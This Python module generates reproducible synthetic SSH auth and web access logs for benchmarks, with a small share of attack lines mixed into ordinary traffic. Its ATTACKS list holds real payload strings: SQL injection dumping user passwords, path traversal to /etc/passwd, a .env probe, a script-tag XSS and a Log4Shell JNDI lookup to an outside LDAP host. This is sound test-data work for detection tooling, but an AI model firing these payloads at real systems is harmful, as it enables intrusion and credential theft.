"""Logs made for benchmarks: ordinary days with some attacks in them, the same at every run."""

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

BEGIN = datetime(2026, 3, 2, 6, 0, tzinfo=UTC)
AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"
PAGES = ("/", "/tin-tuc", "/dich-vu-cong/ho-so", "/van-ban/chi-tiet", "/css/site.css", "/js/app.js", "/images/logo.png")
ATTACKS = (
    "/san-pham?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/tai-ve?file=../../../../etc/passwd",
    "/.env",
    "/wp-login.php",
    "/tim?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?x=${jndi:ldap://203.0.113.9/a}",
)


def auth_log(path: Path, lines: int, attack_share: float = 0.05) -> Path:
    """Write an auth log; ``attack_share`` of its lines are password guessing from a few addresses."""

    def generate() -> Iterator[str]:
        rng, moment = random.Random(1), BEGIN
        for number in range(lines):
            moment += timedelta(milliseconds=rng.randrange(20, 400))
            stamp, pid = moment.strftime("%b %e %H:%M:%S"), rng.randrange(1000, 60000)
            roll = rng.random()
            if roll < attack_share:
                address, user = (
                    f"203.0.113.{number // 20_000 % 250 + 1}",
                    rng.choice(("root", "admin", "test", "oracle")),
                )
                text = f"sshd[{pid}]: Failed password for invalid user {user} from {address} port {pid} ssh2"
            elif roll < 0.55:
                text = f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            elif roll < 0.75:
                address = f"192.0.2.{pid % 200 + 1}"
                text = f"sshd[{pid}]: Accepted publickey for deploy from {address} port {pid} ssh2: ED25519 SHA256:k"
            elif roll < 0.9:
                text = f"systemd-logind[612]: New session {number} of user deploy."
            else:
                text = f"sshd[{pid}]: pam_unix(sshd:session): session closed for user deploy"
            yield f"{stamp} may-chu-{rng.randrange(20):02d} {text}\n"

    return _write(path, generate())


def access_log(path: Path, lines: int, attack_share: float = 0.04) -> Path:
    """Write a web access log in combined format; ``attack_share`` of its lines are attacks."""

    def generate() -> Iterator[str]:
        rng, moment = random.Random(2), BEGIN
        for number in range(lines):
            moment += timedelta(milliseconds=rng.randrange(5, 120))
            stamp = moment.strftime("%d/%b/%Y:%H:%M:%S +0700")
            if rng.random() < attack_share:
                client, target, status = f"203.0.113.{number // 20_000 % 250 + 1}", rng.choice(ATTACKS), 404
            else:
                client, target, status = f"192.0.2.{rng.randrange(1, 250)}", f"{rng.choice(PAGES)}?n={number}", 200
            yield f'{client} - - [{stamp}] "GET {target} HTTP/1.1" {status} {rng.randrange(200, 90000)} "-" "{AGENT}"\n'

    return _write(path, generate())


def _write(path: Path, lines: Iterator[str]) -> Path:
    with path.open("w", encoding="utf-8") as target:
        target.writelines(lines)
    return path
